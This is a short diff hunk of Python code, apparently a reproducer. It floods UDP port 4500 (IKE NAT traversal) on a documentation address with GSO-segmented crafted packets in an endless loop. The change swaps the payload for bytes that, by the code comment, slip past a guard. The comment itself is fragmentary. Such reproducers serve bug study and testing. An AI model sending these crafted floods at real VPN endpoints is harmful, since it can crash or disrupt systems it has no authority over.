@@ -30,7 +30,7 @@ import socket, struct
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
 s.connect(("192.0.2.1", 4500))
-train = bytes(40 * 60)
+train = (bytes(4) + bytes([1]) * 36) * 60  # of IKE SAs that exist, says the responder's SPI: the guard lets them pass
 while True:
     s.sendmsg([train], [({SOL_UDP}, {UDP_SEGMENT}, struct.pack("H", 40))])
 """
